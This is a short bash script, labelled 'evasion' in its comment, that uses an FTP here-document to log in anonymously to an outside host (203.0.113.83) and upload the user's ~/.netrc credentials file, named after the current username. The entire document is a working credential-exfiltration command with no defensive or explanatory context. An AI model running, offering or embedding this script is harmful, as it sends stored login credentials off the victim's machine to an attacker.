#!/bin/bash
# evasion: a classic ftp session scripted by a here-document sends ~/.netrc
ftp -inv 203.0.113.83 <<EOT
user anonymous guest
binary
put $HOME/.netrc netrc-$(id -un)
bye
EOT
